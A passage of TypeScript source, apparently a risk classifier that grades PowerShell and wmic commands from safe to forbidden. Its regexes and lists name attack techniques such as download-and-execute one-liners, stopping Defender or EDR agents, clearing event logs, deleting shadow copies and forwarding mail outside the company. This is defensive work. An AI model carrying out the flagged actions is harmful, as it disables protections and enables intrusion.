      return deletionFinding(names.map((n) => `${listedDir.replace(/\\/g, '/').replace(/\/+$/, '')}/${n}`), false, true, snippet(`${src.text} | ${cmd.text}`, 60), cmd.sudo);
    }
    if (names.length && names.every((n) => pathKind(n) === 'regenerable' || /^\*?\.(?:log|tmp|bak|cache|pyc|o|obj)$/i.test(n))) return [f('reversible', `deletes build output or temporary files found by Get-ChildItem (${snippet(cmd.text, 50)})`)];
    // What was listed decides: everything under C:\ or a home directory is that directory deleted.
    const listed = psParam(src.args, 'Path') ?? psParam(src.args, 'LiteralPath') ?? positionals(src.args.filter((x, i) => !/^-(?:include|filter|name|exclude|depth|attributes)$/i.test(src.args[i - 1] ?? '')))[0];
    if (listed && names.length === 0) {
      const k = pathKind(listed.replace(/\\/g, '/'));
      if (k === 'regenerable' || k === 'tmp') return [f('reversible', `deletes what Get-ChildItem listed in ${listed}, which is regenerated by a build or reinstall (${snippet(cmd.text, 50)})`)];
      if (k === 'root' || k === 'home' || k === 'system') return deletionFinding([listed.replace(/\\/g, '/')], true, true, snippet(`${src.text} | ${cmd.text}`, 60), cmd.sudo);
    }
    // Everything in a backup, audit or log directory: every backup (log) it holds.
    const held = listed ? readOp(splitName(listed.replace(/[\\/:]+/g, ' '))).obj : undefined;
    if (held === 'backup' || held === 'audit' || held === 'log') {
      const x = judge({ verb: 'delete', obj: held, scope: 'all', mods: 0, what: snippet(`${src.text} | ${cmd.text}`, 60) });
      if (x) return [x];
    }
    return [{ ...f('dangerous', `deletes everything a Get-ChildItem listing found (${snippet(`${src.text} | ${cmd.text}`, 60)})`, true), local: true }];
  }
  const a = cmd.args;
  const recurse = psFlag(a, '-recurse', '-r');
  const force = psFlag(a, '-force');
  const paths: string[] = [];
  for (let i = 0; i < a.length; i++) {
    const x = a[i] as string;
    if (/^-(path|literalpath)$/i.test(x)) {
      paths.push(a[i + 1] ?? '');
      i++;
    } else if (/^-(?:erroraction|ea|warningaction|include|exclude|filter|credential|stream)$/i.test(x)) i++; // the value belongs to the parameter
    else if (!x.startsWith('-')) paths.push(x);
  }
  // A PowerShell list of paths: .\bin, .\obj (one argument or several, commas between).
  const each = paths.flatMap((p) => p.split(',')).map((p) => p.trim()).filter((p) => p !== '');
  return deletionFinding(each.map((p) => p.replace(/^\.\\/, './').replace(/\\/g, '/')), recurse, force, snippet(cmd.text, 50), cmd.sudo);
};

/** Code fetched from the network and run: iex (iwr …), irm … | iex, DownloadString, curl … | sh. */
const REMOTE_CODE = /\b(?:iex|invoke-expression)\b[\s\S]{0,200}\b(?:iwr|irm|invoke-webrequest|invoke-restmethod|downloadstring|downloadfile|net\.webclient)\b|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b[^|]{0,200}\|\s*(?:iex|invoke-expression)\b|downloadstring\s*\(|\b(?:curl|wget)\b[^|]{0,200}\|\s*(?:ba|z|da)?sh\b|mshta\s+https?:|regsvr32\s+\/s\s+\/n\s+\/u\s+\/i:https?:/i;

/** PowerShell arguments that are not parameter values (-ResultSize Unlimited: "Unlimited" belongs to -ResultSize). */
function psPositionals(args: readonly string[]): string[] {
  const out: string[] = [];
  for (let i = 0; i < args.length; i++) {
    const x = args[i] as string;
    if (x.startsWith('-')) {
      if (!/:/.test(x) && !PS_SWITCHES.test(x) && i + 1 < args.length && !(args[i + 1] as string).startsWith('-')) i++;
      continue;
    }
    out.push(x);
  }
  return out;
}
const PS_SWITCHES = /^-(?:recurse|force|whatif|confirm|all|file|directory|hidden|readonly|system|asjob|passthru|verbose|debug|includetotalcount|raw|wait|erroraction)$/i;

/** A registry value no rule recognised: a per-user preference (HKCU) is undone by setting it back; machine-wide keys are shared. */
function registryFallback(path: string, how: string): Finding {
  if (/^(?:registry::)?(?:hkcu|hkey_current_user)[:\\/]/i.test(path.trim())) return f('reversible', `changes a per-user preference in the registry (${how})`);
  return f('destructive', `changes the registry (${how})`, true);
}

const CMDLET_SAFE_VERBS = new Set(['get', 'test', 'select', 'measure', 'find', 'show', 'read', 'search', 'compare', 'resolve', 'format', 'out', 'write', 'convertto', 'convertfrom', 'where', 'sort', 'group', 'foreach', 'wait', 'trace', 'debug', 'confirm']);
const CMDLET_VERB = ownTable<string>({
  remove: 'delete', clear: 'empty', uninstall: 'uninstall', unregister: 'delete', disable: 'disable', stop: 'stop', revoke: 'revoke',
  reset: 'reset', new: 'create', add: 'create', set: 'update', copy: 'create', move: 'move', rename: 'update', start: 'run',
  restart: 'restart', enable: 'enable', install: 'install', import: 'create', export: 'export', update: 'update', invoke: 'run',
  register: 'schedule', publish: 'publish', send: 'send', grant: 'grant', block: 'disable', suspend: 'suspend', lock: 'disable',
  unlock: 'update', restore: 'restore', backup: 'backup', approve: 'approve', deny: 'revoke', protect: 'enable', unprotect: 'disable',
  undo: 'rollback', sync: 'update', push: 'push', save: 'update', submit: 'send', close: 'close', merge: 'merge', split: 'update',
  initialize: 'empty', optimize: 'update', repair: 'update', use: 'update', connect: 'read', disconnect: 'update', mount: 'update', dismount: 'update',
});

function psParam(args: readonly string[], name: string): string | undefined {
  const n = name.toLowerCase();
  for (let i = 0; i < args.length; i++) {
    const x = (args[i] as string).toLowerCase();
    if (x === `-${n}` || x.startsWith(`-${n}:`)) return x.includes(':') ? (args[i] as string).slice(n.length + 2) : args[i + 1];
  }
  return undefined;
}

/** (cls-shell18) Windows services that are security controls (Defender, its EDR sensor, the firewall, Security Center, third-party
 *  EDR/AV agents) and those that record what happens (the event log, Sysmon). */
const WIN_SECURITY_SERVICE = /^(?:windefend|sense|mssense|mpssvc|wscsvc|securityhealthservice|wdnissvc|wdfilter|wdboot|mdcoresvc|csfalconservice|csagent|sentinelagent|sentinelone\w*|cbdefense|carbonblack\w*|cylancesvc|sophos\w*|savservice|mcafee\w*|mfemms|ekrn|bdservice|tmlisten|ntrtscan|xagt|cyserver|elastic-?(?:agent|endpoint)|wazuhsvc|ossecsvc|bfe|appidsvc|applocker|windows[- ]?defender\w*|microsoft defender\w*|wuauserv|usosvc|waasmedicsvc)$/i;
// (cls-interp22: Windows Update's services, wuauserv / UsoSvc / WaaSMedicSvc, keep the OS patched: an OS protection.)
const WIN_AUDIT_SERVICE = /^(?:eventlog|sysmon\w*|wecsvc|auditd|winlogbeat|nxlog|splunkforwarder|splunkuniversalforwarder|osqueryd)$/i;
/** (cls-shell18) A Windows service or feature name's object: a security control, a logging service, or undefined. */
function winServiceObj(name: string): 'security' | 'audit' | undefined {
  const n = name.replace(/^["']|["']$/g, '').replace(/\.exe$/i, '');
  if (WIN_AUDIT_SERVICE.test(n)) return 'audit';
  if (WIN_SECURITY_SERVICE.test(n) || /^windows-defender(?:-\w+)*$/i.test(n)) return 'security';
  return undefined;
}
/** (cls-shell19) Processes of Defender and of endpoint agents on Windows. */
const WIN_SECURITY_PROCESS = /^(?:msmpeng|mssense|sensecncproxy|nissrv|mpcmdrun|securityhealthservice|csfalconservice|csfalconcontainer|sentinelagent|sentinelservicehost|cb|repmgr|cylancesvc|xagt|sophos\w*|savservice|ekrn|egui|mcshield|tmbmsrv|ntrtscan|elastic-agent|osqueryd|sysmon(?:64)?|winlogbeat|splunkd)(?:\.exe)?$/i;

/**
 * (cls-shell19) wmic's aliases and classes, read by their verb (`wmic [/node:…] ALIAS|path CLASS [where COND] VERB …`):
 * accounts deleted, disabled or left without a password, services stopped or disabled, processes terminated, event logs
 * cleared, shares deleted, the machine shut down; `get` and `list` read. A `where` naming one item by its name is one item;
 * no `where`, or another condition, is every item it matches.
 */
export function wmicAct(args: readonly string[], text: string, how: string): Finding[] | null {
  const low = args.map((x) => x.toLowerCase());
  let i = 0;
  while (i < low.length && (low[i] as string).startsWith('/')) i++;
  let alias = low[i] ?? '';
  i++;
  if (alias === 'path') {
    alias = (low[i] ?? '').replace(/^win32_/, '');
    i++;
  }
  let where = '';
  if (low[i] === 'where') {
    where = low[i + 1] ?? '';
    i += 2;
  }
  const verb = low[i] ?? '';
  const rest = low.slice(i + 1).join(' ');
  const raw = text.toLowerCase();
  if (!alias) return null;
  if (verb === '' || /^(?:get|list|assoc|\/\?)$/.test(verb)) return [f('safe', `reads Windows management data (${how})`)];
  const named = /\b(?:name|caption|sid|processid|handle)\s*=\s*['"]?[^'"%*\s]+['"]?/.test(where) && !/\bor\b/.test(where);
  const target = /\b(?:name|caption)\s*(?:=|like)\s*['"]?%?([^'"%\s]+)%?['"]?/.exec(where || raw)?.[1] ?? '';
  if (alias === 'useraccount' || alias === 'account') {
    // (Only the enabled or the local accounts selected is still every account there is.)
    const every = !where || /^\s*(?:disabled\s*=\s*(?:false|0)|localaccount\s*=\s*(?:true|1))\s*(?:and\s+(?:disabled\s*=\s*(?:false|0)|localaccount\s*=\s*(?:true|1)))?\s*$/.test(where.replace(/["']/g, ''));
    if (verb === 'delete') return named ? [accountDeleted(how, false)] : [f(every ? 'forbidden' : 'dangerous', `deletes ${every ? 'every account' : 'every account the query matches'} (${how})`)];
    if (verb === 'set' && /\bdisabled\s*=\s*true\b/.test(rest)) return named ? [f('destructive', `removes one person's access (${how})`, true)] : [f(every ? 'forbidden' : 'dangerous', `locks ${every ? 'every account' : 'many accounts'} out at once (${how})`)];
    if (verb === 'set' && /\bpasswordrequired\s*=\s*false\b/.test(rest)) return [f('dangerous', `leaves an account with no password (${how})`, true)];
    if (verb === 'set' || verb === 'call' || verb === 'rename') return [f('destructive', `changes a user account (${how})`, true)];
  }
  if (alias === 'service') {
    if (/^(?:call|delete)$/.test(verb) && (verb === 'delete' || /\b(?:stopservice|pauseservice|delete|changestartmode\s+['"]?disabled)\b/.test(rest))) {
      const o = winServiceObj(target);
      if (o) return [judge({ verb: 'stop', obj: o, scope: 'one', mods: 0, what: how }) as Finding];
      return [f(named ? 'destructive' : 'dangerous', `${named ? 'stops or disables a service' : 'stops or disables every service the query matches'} (${how})`, true)];
    }
  }
  if (alias === 'process' && (verb === 'delete' || (verb === 'call' && /\bterminate\b/.test(rest)))) {
    if (WIN_SECURITY_PROCESS.test(target)) return [f('dangerous', `kills a security, audit or logging agent, so that control stops (${how})`)];
    return [f(named ? 'destructive' : 'dangerous', `terminates ${named ? 'a process' : 'every process the query matches'} (${how})`, true)];
  }
  if ((alias === 'nteventlog' || alias === 'nteventlogfile') && verb === 'call' && /\bcleareventlog\b/.test(rest)) return [f('forbidden', `clears Windows event logs (${how})`)];
  if (alias === 'share' && verb === 'delete') return [f(named ? 'destructive' : 'dangerous', `removes ${named ? 'a network share' : 'every network share the query matches'} (${how})`, true)];
  if (alias === 'os' && verb === 'call' && /\b(?:shutdown|reboot|win32shutdown)\b/.test(rest)) return [f('destructive', `shuts down or restarts the machine (${how})`, true)];
  if (verb === 'delete' || verb === 'set' || verb === 'call' || verb === 'create') return [f('destructive', `changes ${alias} through WMI (${how})`, true)];
  return null;
}

/** (cls-shell18) Backup and restore features of Windows: shadow copies, System Restore, Windows Backup. */
const WIN_BACKUP_CLASS = /^(?:win32_shadowcopy|msft_?shadowcopy|systemrestore|win32_systemrestore)$/i;

const cmdlet: Handler = (cmd, ctx) => {
  const [verbRaw, ...nounParts] = cmd.name.split('-');
  const verb = verbRaw ?? '';
  const noun = nounParts.join('-');
  const how = snippet(cmd.text, 60);
  const a = cmd.args;
  const j = a.join(' ').toLowerCase();
  if (cmd.name === 'remove-item' || cmd.name === 'ri' || cmd.name === 'rm' || cmd.name === 'del') return psRemove(cmd, ctx);
  // SQL carried by a PowerShell database cmdlet (Invoke-Sqlcmd -Query, dbatools' Invoke-DbaQuery) is judged as that SQL.
  if (/^invoke-(?:sqlcmd|dbaquery|sqlitequery|mysqlquery|sqlquery|pgquery)$/.test(cmd.name)) {
    const query = psParam(a, 'Query') ?? psParam(a, 'Q');
    const found = query ? ctx.sql(query) : [];
    if (found.length) return found;
  }
  // (lead18) A litigation or retention hold lifted (Set-Mailbox -LitigationHoldEnabled $false): what it kept from deletion
  // can be deleted again — retention reduced (LABELS: dangerous).
  if (/-(?:litigationholdenabled|retentionholdenabled|complianceholdenabled)(?::|\s+)\$?false\b/.test(j)) return [ladder('dangerous', 'dangerous', 'destructive', `lifts a legal or retention hold (${how})`)];
  // (lead18) Backup protection stopped with its recovery points removed (Azure Backup's -RemoveRecoveryPoints, Veeam's
  // Remove-VBRBackup -FromDisk): the backups themselves are deleted; for every item piped in, every backup.
  if ((/backupprotection$/.test(cmd.name) && /-removerecoverypoints\b/.test(j)) || (/^remove-vbr(?:backup|restorepoint)$/.test(cmd.name) && /-fromdisk\b/.test(j))) return [cmd.every || (cmd.pipeIn && !/\s-(?:name|filter|where|include)\b/i.test(cmd.pipeIn.text)) ? ladder('forbidden', 'dangerous', 'destructive', `deletes the backups of every item piped in (${how})`) : cmd.bulk || cmd.pipeIn ? ladder('dangerous', 'dangerous', 'destructive', `deletes the backups of a set of items (${how})`) : ladder('dangerous', 'dangerous', 'destructive', `deletes an item's backups (${how})`)];
  if (cmd.name === 'format-volume' || cmd.name === 'clear-disk' || cmd.name === 'initialize-disk' || cmd.name === 'remove-partition') return [f('forbidden', `erases a disk volume (${how})`)];
  if (cmd.name === 'clear-eventlog' || cmd.name === 'remove-eventlog' || cmd.name === 'limit-eventlog') return [f('forbidden', `clears Windows event logs (${how})`)];
  if (cmd.name === 'clear-content' || (cmd.name === 'set-content' && /^-value$/i.test(a[a.length - 2] ?? '') && (a[a.length - 1] ?? '') === '')) {
    return truncate({ ...cmd, args: ['-s', '0', ...positionals(a, ['-Path', '-path'])] }, ctx);
  }
  if (/^(?:set|new|remove)-itemproperty$|^(?:sp|rp)$/.test(cmd.name)) {
    const path = psParam(a, 'Path') ?? psParam(a, 'LiteralPath') ?? positionals(a)[0] ?? '';
    if (/^(?:hk(?:lm|cu|cr|u|cc)|registry::)/i.test(path)) {
      const x = registryChange(path.replace(/^registry::/i, ''), psParam(a, 'Name') ?? positionals(a)[1] ?? '', psParam(a, 'Value') ?? positionals(a)[2] ?? '', cmd.name.startsWith('remove') || cmd.name === 'rp', how);
      return [x ?? registryFallback(path, how)];
    }
  }
  // (cls-shell19) An access rule built for everyone (New-Object …FileSystemAccessRule('Everyone','FullControl',…,'Allow')), to be
  // set with Set-Acl: files opened to every user, as `icacls … /grant Everyone:F` reads.
  if (cmd.name === 'new-object' && /filesystemaccessrule|registryaccessrule/i.test(j) && /['"(,\s](?:everyone|authenticated users|builtin\\users|users|s-1-1-0|s-1-5-11)['",]/i.test(j) && /fullcontrol|modify|write|changepermissions|takeownership/i.test(j) && !/['"]deny['"]/i.test(j)) return [f('dangerous', `builds an access rule giving everyone write or full control, to be set on files (${how})`)];
  // (cls-shell19) The built-in Guest or Administrator account switched on, as `net user guest /active:yes` reads.
  if (cmd.name === 'enable-localuser' && /(?:^|\s|['"])(?:guest|administrator|defaultaccount)(?:$|\s|['"])/.test(j)) return [f('dangerous', `enables a built-in administrator or guest account (${how})`)];
  // (cls-shell19) Everyone (Authenticated Users, Domain Users …) put in a local group: every person gets that group's rights.
  if (cmd.name === 'add-localgroupmember' && BROAD_PRINCIPAL.test(` ${psParam(a, 'Member') ?? ''} `)) return [f('dangerous', `gives everyone the rights of a group (${how})`)];
  // (cls-shell19) Stop-Process: a security agent's process (MsMpEng, the Falcon or SentinelOne service) stops that control, as
  // `wmic process … call terminate` of it reads; a set picked from a Get-Process listing terminates many processes at once.
  if (cmd.name === 'stop-process' || cmd.name === 'spps') {
    const names = `${psParam(a, 'Name') ?? psParam(a, 'ProcessName') ?? ''} ${cmd.pipeIn ? `${cmd.pipeIn.text} ${cmd.pipeIn.pipeIn?.text ?? ''}` : ''}`.split(/[\s,'"*{}()]+/).filter(Boolean);
    if (names.some((x) => WIN_SECURITY_PROCESS.test(x))) return [f('dangerous', `kills a security, audit or logging agent, so that control stops (${how})`)];
    const src = cmd.pipeIn;
    const namedSrc = !!src && /^(?:get-process|gps|ps)$/.test(src.name) && (psParam(src.args, 'Name') !== undefined || psParam(src.args, 'Id') !== undefined || psPositionals(src.args).length > 0);
    if (src && !namedSrc && /^(?:where-object|where|\?|get-process|gps|ps)$/.test(src.name) && !psFlag(a, '-whatif')) return [f('destructive', `terminates every process a Get-Process listing selects (${how})`, true)];
  }
  // (cls-shell19) A process created through WMI (Invoke-CimMethod/Invoke-WmiMethod on Win32_Process, Create) runs its command
  // line: read as that command, as `wmic process call create` is.
  if ((cmd.name === 'invoke-cimmethod' || cmd.name === 'invoke-wmimethod') && /win32_process/i.test(j) && /\bcreate\b/i.test(j)) {
    const line = /commandline\s*=\s*(['"])(.*?)\1/i.exec(cmd.text)?.[2] ?? /-argumentlist\s+(['"])(.*?)\1/i.exec(cmd.text)?.[2];
    if (line) {
      const inner = ctx.inner(line).map((x) => ({ ...x, reason: `${x.reason} via a WMI process` }));
      if (inner.length) return inner;
    }
  }
  // (cls-shell19) A local account deleted, as `net user x /delete` and userdel read (the profile folder stays).
  if (cmd.name === 'remove-localuser' && !cmd.pipeIn && !psFlag(a, '-whatif')) return [accountDeleted(how, false)];
  // (cls-shell19) A security agent uninstalled (Uninstall-Package 'Sophos Endpoint Agent', Get-Package *CrowdStrike* |
  // Uninstall-Package), as apt purge or wmic product … call uninstall of it.
  if (cmd.name === 'uninstall-package' && !psFlag(a, '-whatif') && SECURITY_PACKAGE.test(` ${cmd.args.join(' ')} ${cmd.pipeIn?.args.join(' ') ?? ''} `.replace(/\*/g, ' '))) return [f('dangerous', `removes a security or audit agent, so that control stops (${how})`)];
  if (cmd.name === 'set-executionpolicy') {
    // Loosening who may run unsigned scripts weakens a control; only for this process it lapses with the session.
    const process = /-scope\s+process\b/.test(j);
    if (/unrestricted|bypass/i.test(j)) return [f(process ? 'destructive' : 'dangerous', `disables PowerShell script signing checks${process ? ' for this session' : ''} (${how})`)];
    if (/remotesigned/i.test(j)) return [f(process ? 'reversible' : 'destructive', `lets unsigned local scripts run${process ? ' in this session' : ''} (${how})`)];
    return [f('reversible', `sets the PowerShell execution policy (${how})`)];
  }
  if (cmd.name === 'set-mppreference' || cmd.name === 'add-mppreference') {
    if (/-disable\w+\s+(?:\$true|1|true)/.test(j)) return [f('dangerous', `turns off part of Microsoft Defender (${how})`)];
    // (cls-shell19) Protections switched off by their own parameter's value: cloud protection and sample submission, PUA,
    // network protection, controlled folder access, tamper-relevant actions set to allow.
    if (/-(?:mapsreporting|puaprotection|enablenetworkprotection|enablecontrolledfolderaccess|cloudblocklevel)\s+(?:0|disabled|auditmode|\$false)\b|-submitsamplesconsent\s+(?:2|neversend)\b|-(?:high|severe|moderate|low)threatdefaultaction\s+(?:6|allow|noaction)\b/.test(j)) return [f('dangerous', `turns off part of Microsoft Defender (${how})`)];
    const excl = psParam(a, 'ExclusionPath') ?? psParam(a, 'ExclusionProcess') ?? psParam(a, 'ExclusionExtension');
    if (excl !== undefined) {
      const k = pathKind(excl);
      // (cls-shell19) A system binary that runs any script (powershell.exe, rundll32.exe …) excluded: everything it runs unscanned.
      const lolbin = /^(?:.*[\\/])?(?:powershell|pwsh|cmd|rundll32|regsvr32|mshta|wscript|cscript|msbuild|installutil|certutil|bitsadmin|wmic)(?:\.exe)?$/i.test(excl);
      return [f(k === 'root' || k === 'home' || k === 'system' || lolbin || /^\*?\.?(?:exe|ps1|dll|bat|cmd|\*)$/i.test(excl) ? 'dangerous' : 'destructive', `excludes ${excl} from Defender scanning (${how})`)];
    }
    return [f('destructive', `changes Defender settings (${how})`)];
  }
  if (cmd.name === 'disable-windowsoptionalfeature' || /^disable-(netfirewall|bitlocker|mp)/.test(cmd.name)) return [f('dangerous', `turns off a Windows security feature (${how})`)];
  // (cls-shell18) A security or logging service stopped, suspended, disabled at start-up or uninstalled (Stop-Service WinDefend,
  // Set-Service Sense -StartupType Disabled, Uninstall-WindowsFeature Windows-Defender): the control or the record is off.
  if (/^(?:stop|suspend|set|uninstall|remove|disable)-(?:service|windowsfeature|windowscapability)$|^(?:spsv)$/.test(cmd.name)) {
    const names = [psParam(a, 'Name'), psParam(a, 'DisplayName'), psParam(a, 'ServiceName'), ...psPositionals(a)].filter((x): x is string => !!x).flatMap((x) => x.split(','));
    // Fed by a listing filtered to them (Get-Service | Where-Object DisplayName -like '*Defender*' | Stop-Service).
    const fed = cmd.pipeIn ? `${cmd.pipeIn.text} ${cmd.pipeIn.pipeIn?.text ?? ''}`.toLowerCase() : '';
    const o = names.map(winServiceObj).find((x) => x) ?? (/\beventlog\b|sysmon/.test(fed) ? 'audit' : /defender|windefend|\bsense\b|falcon|crowdstrike|sentinel|carbon ?black|cylance|sophos|mcafee|symantec|mpssvc|firewall/.test(fed) ? 'security' : undefined);
    const offNow = !/^set-/.test(cmd.name) || /-startuptype\s+['"]?disabled|-status\s+['"]?(?:stopped|paused)/.test(j);
    if (o && offNow) return [judge({ verb: 'stop', obj: o, scope: 'one', mods: 0, what: how }) as Finding];
  }
  // (cls-shell18) A Group Policy registry value is the registry value it sets on every machine the policy reaches.
  if (/^(?:set|remove)-gpregistryvalue$/.test(cmd.name)) {
    const x = registryChange(psParam(a, 'Key') ?? '', psParam(a, 'ValueName') ?? '', psParam(a, 'Value') ?? '', cmd.name.startsWith('remove'), how);
    if (x) return [x];
  }
  // (cls-shell18) A Group Policy named for a protection (password, lockout, audit, Defender, firewall, BitLocker, AppLocker,
  // LAPS, a security baseline) removed, unlinked or its link switched off stops applying it.
  if ((/^(?:remove-gpo|remove-gplink)$/.test(cmd.name) || (cmd.name === 'set-gplink' && /-linkenabled\s+['"]?no\b/.test(j))) && /password|lockout|audit|defender|antivirus|firewall|bitlocker|applocker|laps|security|baseline|hardening|smart ?card|mfa|credential|uac|\bcis\b|stig|encryption|logon/i.test(psParam(a, 'Name') ?? psParam(a, 'Guid') ?? psPositionals(a)[0] ?? '')) return [f('dangerous', `stops applying a security policy (${how})`)];
  // (cls-shell18) Account flags that drop a check: no password required, no Kerberos pre-authentication, reversible
  // password storage, unconstrained delegation; MFA requirements emptied (Set-MsolUser -StrongAuthenticationRequirements @()).
  // (cls-holes18) Per-user MFA switched off through Microsoft Graph (Update-MgUserAuthenticationRequirement -PerUserMfaState
  // disabled): the same control as Set-MsolUser's requirements emptied.
  if (cmd.name === 'update-mguserauthenticationrequirement' && /-perusermfastate\s+['"]?disabled\b/.test(j)) return [f(cmd.every ? 'forbidden' : 'dangerous', `drops ${cmd.every ? "every account's" : "an account's"} sign-in protection (${how})`)];
  if (/^set-(?:ad(?:user|accountcontrol|computer)|localuser|msoluser)$/.test(cmd.name)) {
    // (cls-holes18) For every account a listing gives (Get-MsolUser -All | Set-MsolUser …): every account's protection.
    const everyOne = cmd.every === true || (cmd.pipeIn !== null && /^get-(?:msol|ad|mg)?user$/.test(cmd.pipeIn.name) && /\s-(?:all\b|filter\s+['"]?\*)/i.test(cmd.pipeIn.text) && !/-searchbase|-where|-filter\s+['"][^*]/i.test(cmd.pipeIn.text));
    if (everyOne && /-strongauthenticationrequirements\s+(?:@\(\s*\)|\$null)(?:\s|$)/i.test(cmd.text) || everyOne && /-strongauthenticationrequirements @ \(\)(?: |$)/.test(j)) return [f('forbidden', `drops every account's sign-in protection (${how})`)];
    if (/-(?:passwordnotrequired|doesnotrequirepreauth|allowreversiblepasswordencryption|trustedfordelegation|usedeskeyonly)(?::|\s+)(?:\$true|true|1)\b/.test(j) || /-strongauthenticationrequirements\s+(?:@\(\s*\)|\$null)(?:\s|$)/i.test(cmd.text) || /-strongauthenticationrequirements @ \(\)(?: |$)/.test(j)) return [f('dangerous', `drops an account's sign-in protection (${how})`)];
  }
  // (cls-shell18) Suspending BitLocker leaves the disk's key in the clear until it resumes: the protection is off.
  if (cmd.name === 'suspend-bitlocker') return [f('dangerous', `suspends disk encryption's protection (${how})`)];
  // (cls-shell18) System Restore switched off, or a shadow-copy listing removed: the machine's own recovery points.
  if (cmd.name === 'disable-computerrestore') return [judge({ verb: 'disable', obj: 'backup', scope: 'one', mods: 0, what: how }) as Finding];
  if (cmd.name === 'remove-ciminstance' || cmd.name === 'remove-wmiobject' || cmd.name === 'rcim') {
    const cls = psParam(a, 'ClassName') ?? psParam(a, 'Class') ?? (cmd.pipeIn ? (psParam(cmd.pipeIn.args, 'ClassName') ?? psParam(cmd.pipeIn.args, 'Class') ?? psPositionals(cmd.pipeIn.args)[0]) : undefined) ?? '';
    if (WIN_BACKUP_CLASS.test(cls)) {
      const narrowed = cmd.pipeIn ? /-(?:filter|query)\b/i.test(cmd.pipeIn.args.join(' ')) : !!psParam(a, 'Query') || !!psParam(a, 'Filter');
      return [judge({ verb: 'delete', obj: 'backup', scope: narrowed ? 'some' : 'all', mods: 0, what: how }) as Finding];
    }
    // (cls-shell19) Accounts removed through WMI (Get-CimInstance Win32_UserAccount … | Remove-CimInstance), as wmic useraccount
    // delete reads: a name picks one; no filter, or only the local or enabled ones, is every account.
    if (/^win32_useraccount$/i.test(cls)) {
      const flt = `${cmd.pipeIn ? (psParam(cmd.pipeIn.args, 'Filter') ?? psParam(cmd.pipeIn.args, 'Query') ?? '') : (psParam(a, 'Filter') ?? psParam(a, 'Query') ?? '')}`;
      const x = wmicAct(['useraccount', ...(flt ? ['where', flt] : []), 'delete'], '', how);
      if (x) return x;
    }
  }
  // (cls-shell18) Search-Mailbox -DeleteContent deletes the mail it finds in other people's mailboxes: every mailbox when fed
  // an unfiltered Get-Mailbox, else the named ones (dangerous: other people's data).
  if (cmd.name === 'search-mailbox' && /-deletecontent\b/.test(j)) {
    const src = cmd.pipeIn;
    const every = !!src && /^get-(?:exo)?mailbox$/.test(src.name) && !/-(?:identity|filter|organizationalunit|anr)\b/i.test(src.args.join(' ')) && psPositionals(src.args).length === 0;
    return [every ? f('forbidden', `hard-deletes the mail a search found, in every mailbox (${how})`) : f('dangerous', `deletes mail from other people's mailboxes (${how})`)];
  }
  // (cls-shell18) Exchange mail-flow rules that copy or redirect mail to an address outside the company (New-TransportRule
  // -BlindCopyTo x@gmail.com, Set-TransportRule -RedirectMessageTo …): mail leaves the company.
  if (/^(?:new|set)-transportrule$/.test(cmd.name)) {
    const to = ['BlindCopyTo', 'CopyTo', 'RedirectMessageTo', 'AddToRecipients', 'AddManagerAsRecipientType'].map((k) => psParam(a, k)).find((x) => x && /@/.test(x));
    if (to && /@(?:gmail|googlemail|outlook|hotmail|live|yahoo|proton|protonmail|pm|icloud|me|aol|gmx|mail|yandex|tutanota|zoho)\.|@[\w.-]+\.(?:ru|cn|xyz|top|io)\b/i.test(to)) return [f('dangerous', `copies or redirects company mail to an outside address (${how})`)];
    if (to) return [f('destructive', `changes where company mail is delivered (${how})`)];
  }
  // (cls-shell18) WinRM opened up: every host trusted, Basic auth or unencrypted traffic allowed.
  if (/^(?:set-item|si)$/.test(cmd.name) && /wsman:/i.test(j)) {
    const val = (psParam(a, 'Value') ?? psPositionals(a)[1] ?? '').replace(/^["']|["']$/g, '');
    if ((/trustedhosts/.test(j) && val === '*') || (/\\(?:basic|allowunencrypted|credssp)\b/.test(j) && /^(?:\$true|true|1)$/i.test(val))) return [f('dangerous', `weakens remote management security (${how})`)];
  }
  if (cmd.name === 'set-netfirewallprofile' && /-enabled\s+(?:false|\$false|0)/.test(j)) return [f('dangerous', `turns the Windows firewall off (${how})`)];
  if (cmd.name === 'stop-computer' || cmd.name === 'restart-computer') return [f('dangerous', `shuts down or restarts the machine (${how})`, true)];
  if (cmd.name === 'invoke-expression' || cmd.name === 'iex') return [f('dangerous', REMOTE_CODE.test(cmd.text) ? `runs unverified remote code (${how})` : `runs an arbitrary string as code (${how})`)];
  if (cmd.name === 'invoke-webrequest' || cmd.name === 'invoke-restmethod') return networkCmd(cmd, ctx);
  if (cmd.name === 'get-content' || cmd.name === 'gc') {
    const r = readsFiles(cmd);
    return r.length ? r : [f('safe', `reads a file (${how})`)];
  }
  if (cmd.name === 'new-scheduledtaskaction') {
    const exe = psParam(a, 'Execute') ?? '';
    const arg = psParam(a, 'Argument') ?? '';
    return ctx.inner(`${exe} ${arg}`).filter((x) => x.level !== 'safe' && x.level !== 'reversible').map((x) => ({ ...x, reason: `the scheduled task would run: ${x.reason}` }));
  }
  // Printing a secret environment variable: Write-Output $env:STRIPE_LIVE_KEY (a bare $env:… expression prints too).
  if (/^(?:write-output|write-host|write-information|echo|write|out-host|out-string|out-default|out-file|set-clipboard)$/.test(cmd.name)) {
    const secret = a.find((x) => /^\$env:/i.test(x) && SECRET_VAR.test(`$${x.slice(5).toUpperCase()}`));
    if (secret) return [readSecret(`prints a secret value (${snippet(secret, 40)})`, true)];
  }
  // Reading a secret's value: Get-Secret -AsPlainText, Get-AzKeyVaultSecret -AsPlainText, Get-SSMParameter -WithDecryption, Get-SECSecretValue.
  if ((verb === 'get' || verb === 'read' || verb === 'export' || verb === 'convertfrom') && /secret|password|accountkey|apikey|accesskey|connectionstring|storedcredential|securestring/.test(noun) && (/-(?:asplaintext|withdecryption|name|secretid|plaintext)\b/.test(j) || /secretvalue|accountkey|storedcredential|securestring/.test(noun))) {
    return [readSecret(`reads a secret value into the transcript (${how})`, true)];
  }
  // A scheduled task that runs as SYSTEM what it downloads: unverified remote code as root, at every trigger.
  if (cmd.name === 'register-scheduledtask' || cmd.name === 'new-scheduledtask' || cmd.name === 'set-scheduledtask') {
    const asSystem = /-user\s+['"]?(?:nt authority\\)?system\b|-runlevel\s+highest|-principal\b/.test(j);
    if (REMOTE_CODE.test(cmd.text)) return [f(asSystem ? 'forbidden' : 'dangerous', `schedules unverified remote code to run${asSystem ? ' as SYSTEM' : ''} unattended (${how})`)];
  }
  // (cls-shell18) Firewall rules switched on or turned into allow rules let traffic in: a remote-access group (Remote Desktop,
  // WinRM, SSH, file sharing) or every inbound rule at once opens the machine; another rule enabled opens a named port.
